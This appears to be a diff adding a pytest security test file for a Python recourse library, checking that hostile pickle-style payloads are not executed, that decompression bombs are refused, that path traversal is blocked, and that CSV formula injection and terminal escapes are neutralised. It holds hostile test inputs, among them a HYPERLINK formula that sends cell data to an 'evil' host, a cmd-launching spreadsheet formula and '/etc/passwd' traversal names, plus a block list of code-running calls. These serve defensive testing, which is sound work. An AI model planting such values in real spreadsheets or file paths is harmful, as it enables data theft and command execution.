@@ -1,0 +1,352 @@
+"""Files made by somebody on purpose: nothing is run, nothing is unpacked beyond reason, nothing leaves its folder."""
+
+from __future__ import annotations
+
+import ast
+import csv
+import io
+import json
+import pickle
+import re
+import sys
+import tracemalloc
+from pathlib import Path
+from unittest import mock
+
+import rose_carla
+import joblib
+import numpy as np
+import pandas as pd
+import pytest
+import torch
+from rose_carla import RoseOne, datasets, models
+from bad_files import BOMBS, ODD_ARRAYS, payloads
+from cli_examples import changed, folder, run  # noqa: F401 - fixtures
+from rose_carla._lib.spreadsheets import harmless, harmless_frame
+from rose_carla.bench import Judgement, Recourse, Setting, Store
+from rose_carla.bench.people import tidy_csv
+from rose_carla.cli import streams
+from rose_carla.cli.plans import Answer, write_csv
+from rose_carla.errors import PlanError
+from rose_carla.models import cache
+from rose_carla.rose import policy_file as policies
+
+PACKAGE = Path(rose_carla.__file__).parent
+TINY = {"ppo": {"n_updates": 1, "n_environments": 8, "n_steps": 4, "hidden": 4}, "search": False, "n_check": 20}
+CELL = Judgement(Recourse(Setting("compas", "linear", people=4), "GrSp"), ("Proximity",))
+
+
+@pytest.fixture
+def mark(tmp_path):
+    """What a payload would touch."""
+    return tmp_path / "ran"
+
+
+@pytest.fixture(scope="module")
+def policy(compas_linear, tmp_path_factory):
+    """A saved policy."""
+    path = tmp_path_factory.mktemp("policy") / "policy.npz"
+    RoseOne(compas_linear, TINY).save(path)
+    return path
+
+
+# --- nothing is run
+
+
+@pytest.mark.parametrize("name", payloads(Path("ran")))
+def test_payloads_run_in_no_loader(name, mark, compas_linear, tmp_path, monkeypatch):
+    content = payloads(mark)[name]
+    path = tmp_path / "policy.npz"
+    path.write_bytes(content)
+    with pytest.raises(PlanError, match="no policy that can be used: it is damaged or not one of ours"):
+        RoseOne.load(path, compas_linear)
+    monkeypatch.setenv("ROSE_CARLA_CACHE", str(tmp_path / "cache"))
+    expected = models.train(compas_linear.data, "linear", settings=models.TrainingSettings((), 0.1, 512, 1))
+    (entry,) = (tmp_path / "cache").rglob("*.npz")
+    entry.write_bytes(content)
+    with pytest.warns(UserWarning, match="Training anew"):
+        again = models.train(compas_linear.data, "linear", settings=models.TrainingSettings((), 0.1, 512, 1))
+    rows = compas_linear.data.df.head(50)
+    np.testing.assert_array_equal(again.predict_proba(rows), expected.predict_proba(rows))
+    store = Store(tmp_path / "cells")
+    store.path(CELL).parent.mkdir()
+    store.path(CELL).write_bytes(content)
+    with pytest.warns(UserWarning, match="is not used"):
+        assert store.find(CELL) is None
+    assert not mark.exists()
+
+
+def test_the_payloads_would_run(tmp_path):
+    """Otherwise the tests above would prove nothing."""
+    careless = {
+        "pickle": lambda file: pickle.load(file),
+        "array of objects": lambda file: np.load(file, allow_pickle=True),
+        "archive of objects": lambda file: np.load(file, allow_pickle=True)["header"],
+        "one object in an archive": lambda file: np.load(file, allow_pickle=True)["about"],
+        "torch": lambda file: torch.load(file, weights_only=False),
+        "joblib": lambda file: joblib.load(file),
+    }
+    for name, load in careless.items():
+        mark = tmp_path / name
+        load(io.BytesIO(payloads(mark)[name]))
+        assert mark.exists()
+
+
+#: Calls that run what is in a file, or may.
+RUNNING = (
+    "eval", "exec", "compile", "os.system", "os.popen", "yaml.load", "torch.load", "torch.jit.load", "joblib.load",
+    "np.load", "numpy.load", "np.lib.format.read_array",
+)  # fmt: skip
+
+
+def test_the_source_has_no_way_to_run_what_is_in_a_file():
+    """Beside the import of a module that somebody named, which is what they asked for."""
+    found = set()
+    for path in PACKAGE.rglob("*.py"):
+        name = path.relative_to(PACKAGE).as_posix()
+        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
+            imported = {each.name for each in node.names} if isinstance(node, ast.Import) else set()
+            imported |= {node.module} if isinstance(node, ast.ImportFrom) else set()
+            if imported & {"pickle", "cPickle", "dill", "cloudpickle", "marshal", "shelve", "subprocess"}:
+                found.add((name, "import"))
+            if not isinstance(node, ast.Call):
+                continue
+            called = ast.unparse(node.func)
+            runs = called.rpartition(".")[2] in ("read_pickle", "load_model")
+            if runs or called in RUNNING:
+                found.add((name, called))
+            for keyword in node.keywords:
+                if keyword.arg == "allow_pickle":
+                    assert ast.unparse(keyword.value) == "False"
+    assert found <= {
+        ("compat/unpickling.py", "import"),  # CARLA's own files, and nothing but networks in them
+        ("compat/guarded.py", "import"),
+        ("models/cache.py", "np.lib.format.read_array"),  # as the next lines ask, without pickles
+        ("compat/unpickling.py", "torch.load"),
+        ("compat/keras_files.py", "import"),  # only the name of the error
+        ("compat/keras_files.py", "keras.models.load_model"),  # after a look at what is in the file
+        ("compat/importer.py", "exec"),  # CARLA's own modules
+        ("compat/importer.py", "compile"),
+        ("tables/provenance.py", "import"),  # asks git for the revision
+    }
+
+
+@pytest.mark.parametrize("name", BOMBS)
+def test_small_files_that_claim_much_are_refused_without_taking_it(name, tmp_path):
+    path = tmp_path / "bomb.npz"
+    path.write_bytes(BOMBS[name]())
+    tracemalloc.start()
+    with pytest.raises(cache.CacheError, match="damaged or not one of ours"):
+        cache.read(path, "key")
+    peak = tracemalloc.get_traced_memory()[1]
+    tracemalloc.stop()
+    assert peak < 8e6 + 3 * path.stat().st_size
+
+
+def test_what_is_no_file_is_refused(tmp_path):
+    for path in (tmp_path, tmp_path / "missing", Path("/dev/zero")):
+        with pytest.raises(cache.CacheError, match="no file"):
+            cache.read(path, "key")
+
+
+# --- a policy with a valid checksum and something else in it
+
+
+ODD = {
+    "no method": lambda known: known.pop("method"),
+    "method is a list": lambda known: known.update(method=["ROSE-one"]),
+    "no settings": lambda known: known.pop("settings"),
+    "settings are text": lambda known: known.update(settings="all"),
+    "settings are missing": lambda known: known["settings"].pop("tau"),
+    "an unknown setting": lambda known: known["settings"].update(run="rm"),
+    "a setting out of range": lambda known: known["settings"].update(tau=7),
+    "a setting of another kind": lambda known: known["settings"].update(ppo=[1]),
+    "a huge network": lambda known: known["settings"]["ppo"].update(hidden=2**40),
+    "slope is text": lambda known: known.update(slope="steep"),
+    "slope is nothing": lambda known: known.update(slope=None),
+    "slope is NaN": lambda known: known.update(slope=float("nan")),
+    "slope is infinite": lambda known: known.update(slope=float("inf")),
+    "slope is negative": lambda known: known.update(slope=-5),
+    "slope is beyond floats": lambda known: known.update(slope=10**400),
+    "features are a number": lambda known: known.update(features=5),
+    "features are nested": lambda known: known.update(features=[["age"]]),
+    "older format": lambda known: known.update(format=0),
+    "newer format": lambda known: known.update(format=99),
+    "format is a list": lambda known: known.update(format=[1]),
+}
+
+
+@pytest.mark.parametrize("odd", ODD)
+def test_policies_that_are_signed_and_odd_are_refused(odd, policy, compas_linear, tmp_path):
+    with np.load(policy) as file:
+        arrays = {name: file[name] for name in file.files if name != "header"}
+    known = json.loads(str(arrays["about"]))
+    ODD[odd](known)
+    path = tmp_path / "policy.npz"
+    cache.write(path, policies._KEY, {**arrays, "about": np.array(json.dumps(known))})
+    with pytest.raises(PlanError) as refused:
+        RoseOne.load(path, compas_linear)
+    assert len(str(refused.value)) < 800
+
+
+def test_a_policy_takes_no_memory_for_a_network_that_is_not_in_it(policy, compas_linear, tmp_path):
+    with np.load(policy) as file:
+        arrays = {name: file[name] for name in file.files if name != "header"}
+    known = json.loads(str(arrays["about"]))
+    known["settings"]["ppo"]["hidden"] = 3000
+    path = tmp_path / "policy.npz"
+    cache.write(path, policies._KEY, {**arrays, "about": np.array(json.dumps(known))})
+    with (
+        mock.patch.object(policies, "ActorCritic", side_effect=AssertionError("the network was made")),
+        pytest.raises(PlanError, match="too few for 3,000 hidden units"),
+    ):
+        RoseOne.load(path, compas_linear)
+
+
+@pytest.mark.parametrize("odd", ODD_ARRAYS)
+def test_weights_that_are_signed_and_odd_are_refused(odd, policy, compas_linear, tmp_path):
+    with np.load(policy) as file:
+        arrays = {name: file[name] for name in file.files if name != "header"}
+    name = next(name for name in arrays if name.startswith("weights."))
+    arrays |= ODD_ARRAYS[odd](name, arrays[name], arrays)
+    path = tmp_path / "policy.npz"
+    cache.write(path, policies._KEY, {name: array for name, array in arrays.items() if array is not None})
+    with pytest.raises(PlanError, match="damaged or not one of ours"):
+        RoseOne.load(path, compas_linear)
+
+
+# --- nothing leaves its folder
+
+
+EVIL = "../../evil\\..\\x"
+
+
+def test_names_from_data_lead_to_no_file_outside_the_folder(run, folder, tmp_path, monkeypatch):  # noqa: F811
+    monkeypatch.setenv("ROSE_CARLA_CACHE", str(tmp_path / "cache"))
+    frame = pd.read_csv(folder / "loans.csv").rename(columns={"income": EVIL, "home": "/etc/passwd"})
+    data = datasets.from_frame(
+        frame.replace({"rent": EVIL, "own": "/tmp/own"}), "loan", name=EVIL, favourable="granted", immutables=["age"]
+    )
+    method = RoseOne(models.train(data, "linear"), TINY)
+    (tmp_path / "policies").mkdir()
+    method.save(tmp_path / "policies" / "policy.npz")
+    outside = {path for path in tmp_path.parent.rglob("*") if tmp_path not in path.parents and path != tmp_path}
+    assert not {path for path in outside if "evil" in path.name}
+    for path in tmp_path.rglob("*"):
+        assert re.fullmatch(r"[\w.-]+", path.name)
+
+    def change(people):
+        people["name"] = [f"{EVIL}{i}" for i in range(len(people))]
+
+    before = {*folder.rglob("*"), *folder.parent.iterdir()}
+    done = run("recourse", changed(folder, "evil.csv", change), "--policy", "policy", "--id", "name", "--out", "p.csv")
+    assert done.code == 0
+    after = {*folder.rglob("*"), *folder.parent.iterdir()}
+    assert after - before == {folder / "evil.csv", folder / "p.csv"}
+    for name in ("evil.csv", "p.csv"):
+        (folder / name).unlink()
+
+
+# --- nothing is a formula in a spreadsheet, or a command to a terminal
+
+FORMULAS = [
+    '=HYPERLINK("//evil/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", " =1", '"=1"', "＝1+1",
+    "a;=1", "a\n=1", "a\t@x", "-", "\0=1",
+]  # fmt: skip
+#: Those that Python's csv can write and read.
+WRITABLE = [formula for formula in FORMULAS if "\0" not in formula or sys.version_info >= (3, 11)]
+
+
+def formulas(text):
+    """Cells that a spreadsheet would run, whatever its locale separates cells by."""
+    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
+    cells += [part.split(",")[0] for part in re.split(r"[;\t|\r\n]", text)]
+    bare = [cell.strip('\0" \t') for cell in cells]
+    return [cell for cell in bare if re.match(r"[=+\-@＝＋－＠]", cell) and not is_number(cell)]
+
+
+def is_number(cell):
+    try:
+        return float(cell) is not None
+    except ValueError:
+        return False
+
+
+def test_the_check_finds_formulas():
+    for formula in WRITABLE:
+        out = io.StringIO()
+        csv.writer(out).writerow(["a", formula])
+        assert formulas(out.getvalue()), formula
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_formulas_become_text_and_everything_else_stays(formula):
+    out = io.StringIO()
+    csv.writer(out).writerow(["a", harmless(formula), harmless(f"x{formula}")])
+    assert not formulas(out.getvalue())
+    assert harmless(formula).replace("'", "") == formula.replace("'", "").replace("\0", "")
+    assert harmless(harmless(formula)) == harmless(formula)
+
+
+@pytest.mark.parametrize("cell", ["-1.5", "+3", "1e-7", "-.5", "", "a-b", "a=b", "x, =1", 3, -2.5, None, True, "−5"])
+def test_numbers_and_plain_text_stay_as_they_are(cell):
+    assert harmless(cell) is cell or harmless(cell) == cell
+
+
+def test_tables_hold_no_formulas():
+    frame = pd.DataFrame({"=Method": ["=1+1", "GrSp"], "Mean": [-1.5, 2.0], "kind": pd.Categorical(["@x", "y"])})
+    assert not formulas(tidy_csv(frame))
+    assert harmless_frame(frame)["Mean"].tolist() == [-1.5, 2.0]
+    assert list(frame) == ["=Method", "Mean", "kind"]
+    odd = pd.DataFrame([["=1", 2.5, "x", "@y"], ["z", -1.0, "=2", "w"]], columns=["a", "a", 3, "=b"], index=[7, 7])
+    assert harmless_frame(odd).values.tolist() == [["'=1", 2.5, "x", "'@y"], ["z", -1.0, "'=2", "w"]]
+    assert list(harmless_frame(odd)) == ["a", "a", 3, "'=b"]
+    assert harmless_frame(odd).index.tolist() == [7, 7]
+    assert harmless_frame(odd[[]]).shape == (2, 0)
+
+
+def test_plans_and_judgements_of_hostile_people_hold_no_formulas(run, folder):  # noqa: F811
+    def change(frame):
+        frame["name"] = [WRITABLE[i % len(WRITABLE)].strip() or "-" for i in range(len(frame))]
+        frame.loc[3, "income"], frame.loc[4, "home"] = "=1+1", "@SUM(A1)"
+
+    name = changed(folder, "formulas.csv", change)
+    done = run("recourse", name, "--policy", "policy", "--id", "name")
+    assert done.code == 1
+    assert not formulas(done.out)
+    assert len([*csv.DictReader(io.StringIO(done.out))]) >= 40
+
+    def names_only(frame):
+        frame["name"] = [WRITABLE[i % len(WRITABLE)].strip() or "-" for i in range(len(frame))]
+
+    name = changed(folder, "formulas.csv", names_only)
+    words = ["--policy", "policy", "--people", name, "--id", "name", "--samples", "20", "--per-person", "judged.csv"]
+    assert run("evaluate", *words, "--format", "csv").code == 0
+    text = (folder / "judged.csv").read_text()
+    assert not formulas(text)
+    assert len(text.splitlines()) > 10
+    (folder / "=1+1.csv").write_bytes((folder / name).read_bytes())
+    made = ["--policy", "policy", "--people", name, "--counterfactuals", "=1+1.csv", "--samples", "20"]
+    done = run("evaluate", *made, "--format", "csv")
+    (folder / "=1+1.csv").unlink()
+    assert "=1+1" in done.out
+    assert not formulas(done.out)
+
+
+def test_what_is_shown_commands_no_terminal(run, folder):  # noqa: F811
+    def change(frame):
+        frame["name"] = [f"\x1b[2J\x9b31m\u202e{i}" for i in range(len(frame))]
+        frame.loc[3, "home"] = "\x1b]0;evil\x07"
+
+    name = changed(folder, "terminal.csv", change)
+    done = run("recourse", name, "--policy", "policy", "--id", "name", "--format", "text")
+    assert "\\x1b[2J\\x9b31m\\u202e7" in done.out
+    json_lines = run("recourse", name, "--policy", "policy", "--id", "name", "--format", "json").out
+    assert [json.loads(line)["person"] for line in json_lines.splitlines()][7] == "\x1b[2J\x9b31m\u202e7"
+    screen = type("Screen", (io.StringIO,), {"isatty": lambda self: True})()
+    write_csv([Answer("\x1b[2J", None, "\x9b")], screen, first=True)
+    described = run("datasets", changed(folder, "\x1b[2J.csv", change), "--target", "loan", "--favourable", "granted")
+    assert described.code == 0
+    others = (run("datasets", name, "--target", "name").out, streams.aligned([["\x1b[2J"]]))
+    for text in (done.out, done.err, json_lines, screen.getvalue(), described.out, *others):
+        assert all(sign.isprintable() or sign == "\n" for sign in text)
